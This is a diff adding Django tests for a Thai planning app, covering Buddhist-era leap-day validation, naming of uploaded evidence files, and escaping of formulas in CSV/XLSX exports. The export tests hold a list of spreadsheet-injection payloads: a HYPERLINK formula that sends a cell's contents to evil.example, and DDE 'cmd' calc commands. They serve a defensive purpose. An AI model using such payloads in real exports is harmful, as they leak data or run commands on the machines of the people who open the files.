@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
 import re
@@ -259,6 +260,26 @@ def test_it_refuses_bad_follow_up(measure, staff, data, message):
     assert not measure.progress.exists()
 
 
+@time_machine.travel(dt.datetime(2025, 6, 1, 9, tzinfo=dt.UTC), tick=False)
+@pytest.mark.parametrize("date", ["2568-02-29", "๒๕๖๘-๐๒-๒๙", "2564-02-29", "2560-02-29"])
+def test_it_refuses_a_buddhist_era_29_february_of_a_common_year(measure, staff, date):
+    # B.E. 2568, 2564 and 2560 are divisible by 4, but 2025, 2021 and 2017 have no 29 February
+    url = reverse("measures:measure_detail", args=[measure.pk])
+    response = client_for(staff).post(url, {"date": date, "done": "ประชุมชี้แจง"})
+    assert response.status_code == 200
+    assert "กรุณากรอกวันที่ในรูปแบบ ปี-เดือน-วัน" in field_error(response.content.decode(), "date")
+    assert not measure.progress.exists()
+
+
+@time_machine.travel(dt.datetime(2025, 6, 1, 9, tzinfo=dt.UTC), tick=False)
+@pytest.mark.parametrize("date", ["2567-02-29", "๒๕๖๗-๐๒-๒๙"])
+def test_it_accepts_29_february_of_a_buddhist_era_leap_year(measure, staff, date):
+    url = reverse("measures:measure_detail", args=[measure.pk])
+    response = client_for(staff).post(url, {"date": date, "done": "ประชุมชี้แจง"})
+    assert response.status_code == 302
+    assert measure.progress.get().date == dt.date(2024, 2, 29)
+
+
 @time_machine.travel(IN_FY_2566, tick=False)
 @pytest.mark.parametrize(
     ("name", "content", "message"),
@@ -293,6 +314,27 @@ def test_it_serves_evidence_only_inside_the_organisation(
     response = client_for(staff).get(url)
     assert b"".join(response.streaming_content) == b"%PDF-1.4 minutes"
     assert client_for(outsider).get(url).status_code == 404
+
+
+PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
+
+
+@time_machine.travel(IN_FY_2566, tick=False)
+@pytest.mark.parametrize("name", [".png", "scan", "ภาพถ่าย"])
+def test_it_stores_evidence_named_without_a_stem_or_an_extension_as_png(
+    measure, staff, settings, tmp_path, name
+):
+    settings.MEDIA_ROOT = tmp_path
+    client_for(staff).post(
+        reverse("measures:measure_detail", args=[measure.pk]),
+        {"date": "2023-02-01", "done": "x", "evidence_file": SimpleUploadedFile(name, PNG)},
+    )
+    progress = measure.progress.get()
+    assert progress.evidence_file.name.endswith(".png")
+    assert (tmp_path / progress.evidence_file.name).read_bytes() == PNG
+    response = client_for(staff).get(reverse("measures:evidence", args=[measure.pk, progress.pk]))
+    assert b"".join(response.streaming_content) == PNG
+    assert response["Content-Disposition"].rstrip('"').endswith(".png")
 
 
 @time_machine.travel(dt.datetime(2023, 4, 2, 9, tzinfo=dt.UTC), tick=False)
@@ -341,6 +383,59 @@ def test_it_exports_the_plan_as_xlsx(plan, measure, progress, staff):
     assert (row["title"], row["indicators"]) == ("มาตรการเผยแพร่ข้อมูลต่อสาธารณะ", "9 10")
     assert row["timeline_text"] == "ม.ค. – มี.ค. ๒๕๖๖"
     assert (row["progress_count"], row["last_progress_done"]) == (1, "ประชุมชี้แจง")
+
+
+# OWASP's CSV injection prefixes, and their full-width forms.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    "＝1+2",
+    "＋1+2",
+    "－1+2",
+    "＠SUM(1+9)",
+]
+
+
+@pytest.fixture
+def formula_measures(plan):
+    return [
+        Measure.objects.create(plan=plan, order=n, title=title, indicators=[n % 10 + 1])
+        for n, title in enumerate(FORMULAS, start=1)
+    ]
+
+
+def test_it_exports_titles_that_look_like_formulas_as_text_in_xlsx(formula_measures, staff):
+    response = client_for(staff).get(
+        reverse(
+            "measures:plan_export", args=[formula_measures[0].plan.organisation_id, 2566, "xlsx"]
+        )
+    )
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    header = [c.value for c in next(sheet.iter_rows())]
+    titles = [row[header.index("title")] for row in sheet.iter_rows(min_row=2)]
+    assert [c.value for c in titles] == FORMULAS
+    assert all(c.data_type == "s" and c.quotePrefix for c in titles)
+    years = [row[header.index("fiscal_year")] for row in sheet.iter_rows(min_row=2)]
+    assert {(c.value, c.data_type) for c in years} == {(2566, "n")}  # numbers stay numbers
+
+
+def test_it_exports_titles_that_look_like_formulas_behind_an_apostrophe_in_csv(
+    formula_measures, staff
+):
+    response = client_for(staff).get(
+        reverse(
+            "measures:plan_export", args=[formula_measures[0].plan.organisation_id, 2566, "csv"]
+        )
+    )
+    header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))
+    assert [row[header.index("title")] for row in rows] == ["'" + f for f in FORMULAS]
+    assert [row[header.index("order")] for row in rows] == [str(n) for n in range(1, 11)]
 
 
 def test_it_shows_a_person_the_measures_they_own(measure, reviewer, staff):
